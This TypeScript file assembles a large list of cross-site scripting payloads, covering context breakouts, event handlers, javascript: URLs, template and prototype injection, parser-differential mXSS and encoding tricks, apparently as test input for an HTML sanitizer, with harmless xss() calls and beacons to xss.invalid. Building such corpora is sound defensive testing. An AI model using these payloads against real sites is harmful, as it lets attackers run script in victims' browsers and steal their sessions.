/**
 * Texts that have made other people's pages run what they should have shown: by family, as the usual collections know them (OWASP XSS
 * filter evasion, PortSwigger's cheat sheet, html5sec). Each calls `xss()`, opens a dialog, or fetches something of xss.invalid.
 */

const CALL = "xss()";
const BEACON = "https://xss.invalid/";

const WAYS_OUT = [
  "",
  '">',
  "'>",
  "`>",
  "</title>",
  "</style>",
  "</textarea>",
  "</noscript>",
  "</template>",
  "-->",
  "]]>",
  "</script>",
];

const ELEMENTS = [
  `<script>${CALL}</script>`,
  `<img src=x onerror=${CALL}>`,
  `<svg onload=${CALL}>`,
  `<iframe srcdoc="<script>parent.${CALL}</script>"></iframe>`,
  `<details open ontoggle=${CALL}>`,
  `<img src="${BEACON}a.png">`,
];

/** Each way out of where a text may stand, followed by each kind of element that then runs: 72. */
const outOfContext = WAYS_OUT.flatMap((way) => ELEMENTS.map((element) => `${way}${element}`));

const handlers = [
  ["body", "onload"],
  ["body", "onpageshow"],
  ["video src=x", "onerror"],
  ["audio src=x", "onerror"],
  ["object data=x", "onerror"],
  ["input autofocus", "onfocus"],
  ["select autofocus", "onfocus"],
  ["textarea autofocus", "onfocus"],
  ["a tabindex=0 autofocus", "onfocus"],
  ["marquee", "onstart"],
  ["style", "onload"],
  ["link rel=stylesheet href=data:,", "onload"],
  ["script src=x", "onerror"],
  ["svg><animate attributeName=x dur=1s", "onbegin"],
  ["svg><set attributeName=x", "onbegin"],
  ["img src=data:image/gif;base64,R0lGODlhAQABAAAAACw=", "onload"],
  ["div popover id=p", "onbeforetoggle"],
  ["iframe src=data:,", "onload"],
  ["video><source", "onerror"],
  ["math><mtext><img src=x", "onerror"],
].flatMap(([tag, handler]) => [`<${tag} ${handler}=${CALL}>`, `"><${tag?.toUpperCase()} ${handler}="${CALL}">`]);

/** Into an attribute, of either quote or of none. */
const attributes = ['"', "'", "`", ""].flatMap((quote) => [
  `${quote} onmouseover=${CALL} x=${quote}`,
  `${quote} autofocus onfocus=${CALL} x=${quote}`,
  `${quote}\tonerror=${CALL}\tsrc=${quote}x`,
  `${quote}/onload=${CALL}/x=${quote}`,
  `x${quote} style=${quote}background:url(${BEACON})`,
]);

const addresses = [
  `javascript:${CALL}`,
  `JaVaScRiPt:${CALL}`,
  ` javascript:${CALL}`,
  `\u0001javascript:${CALL}`,
  `java\tscript:${CALL}`,
  `java\nscript:${CALL}`,
  `javascript&colon;${CALL}`,
  `&#106;avascript:${CALL}`,
  `javascript://%0a${CALL}`,
  `data:text/html,<script>parent.${CALL}</script>`,
  "data:text/html;base64,PHNjcmlwdD5wYXJlbnQueHNzKCk8L3NjcmlwdD4=",
  `vbscript:${CALL}`,
  `//xss.invalid/a.js`,
  `blob:https://xss.invalid/a`,
];

/** Out of a script, or of JSON in one. */
const scripts = [
  `</script\n><script>${CALL}</script>`,
  `</ScRiPt ><script>${CALL}</script>`,
  `<!--<script>`,
  `<!--<script></script><img src=x onerror=${CALL}>`,
  `";${CALL};//`,
  `';${CALL};//`,
  `\\";${CALL};//`,
  `\${${CALL}}`,
  `{{${CALL}}}`,
  `{{constructor.constructor('${CALL}')()}}`,
  `"}</script><svg/onload=${CALL}>`,
  `\u2028${CALL}\u2029`,
  `]}};${CALL};[{`,
  `__proto__`,
  `constructor`,
  `{"__proto__":{"innerHTML":"<img src=x onerror=${CALL}>"}}`,
  `{{boot}}`,
  `{{nonce}}`,
  `{{body}}<img src=x onerror=${CALL}>`,
  `$&<img src=x onerror=${CALL}>`,
  `$'<img src=x onerror=${CALL}>`,
  "$`</script>$1",
];

/** What parsers and filters read differently. */
const parsers = [
  `<scr<script>ipt>${CALL}</script>`,
  `<<script>${CALL}//<</script>`,
  `<script/x>${CALL}</script>`,
  `<svg/onload=${CALL}>`,
  `<svg><script>${CALL}</script>`,
  `<svg><script>&#120;ss()</script>`,
  `<svg><style><img src=x onerror=${CALL}></style>`,
  `<math><style><img src=x onerror=${CALL}></style></math>`,
  `<math><mi//xlink:href="data:x,<script>${CALL}</script>">`,
  `<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=${CALL}>`,
  `<noscript><p title="</noscript><img src=x onerror=${CALL}>">`,
  `<template><img src=x onerror=${CALL}></template>`,
  `<div><template shadowrootmode=open><img src=x onerror=${CALL}></template></div>`,
  `<table><tr><img src=x onerror=${CALL}>`,
  `<select><template><img src=x onerror=${CALL}></template></select>`,
  `<plaintext>`,
  `<textarea>`,
  `<title>`,
  `<base href=${BEACON}>`,
  `<meta http-equiv=refresh content="0;url=${BEACON}">`,
  `<link rel=stylesheet href=${BEACON}a.css>`,
  `<embed src=javascript:${CALL}>`,
  `<form action=${BEACON}><button autofocus>`,
  `<a href=javascript:${CALL} id=x>x</a>`,
  `<style>@import '${BEACON}a.css';</style>`,
  `<img src=x:x onerror=alert(1)>`,
  `<script>alert(1)</script>`,
  `<script src=${BEACON}a.js></script>`,
  `<script type=module>import '${BEACON}a.js'</script>`,
  `<xss contenteditable autofocus onfocus=${CALL}>`,
];

/** Escaped once already, spelt otherwise, or hidden. */
const spellings = [
  `&lt;img src=x onerror=${CALL}&gt;`,
  `&amp;lt;script&amp;gt;${CALL}&amp;lt;/script&amp;gt;`,
  `&#60;script&#62;${CALL}&#60;/script&#62;`,
  `&#x3c;svg onload=${CALL}&#x3e;`,
  `%3Cscript%3E${CALL}%3C/script%3E`,
  `%253Cscript%253E${CALL}%253C/script%253E`,
  `\\u003cimg src=x onerror=${CALL}\\u003e`,
  `\\x3cimg src=x onerror=${CALL}\\x3e`,
  `\uff1cscript\uff1e${CALL}\uff1c/script\uff1e`,
  `\u2039img src=x onerror=${CALL}\u203a`,
  `\u202e<img src=x onerror=${CALL}>\u202c`,
  `\u2066<svg onload=${CALL}>\u2069`,
  `<\u200bimg src=x onerror=${CALL}>`,
  `<img\u00a0src=x\u00a0onerror=${CALL}>`,
  `<img\fsrc=x\fonerror=${CALL}>`,
  `<img\u0000src=x onerror=${CALL}>`,
  `\u0000<script>${CALL}</script>`,
  `\ufeff<script>${CALL}</script>`,
  `+ADw-script+AD4-${CALL}+ADw-/script+AD4-`,
  `<ſcript>${CALL}</ſcript>`,
  `\u0085<svg onload=${CALL}>`,
  `<svg\r\nonload=${CALL}>`,
];

export const HOSTILE_TEXTS: readonly string[] = [
  ...outOfContext,
  ...handlers,
  ...attributes,
  ...addresses,
  ...scripts,
  ...parsers,
  ...spellings,
];
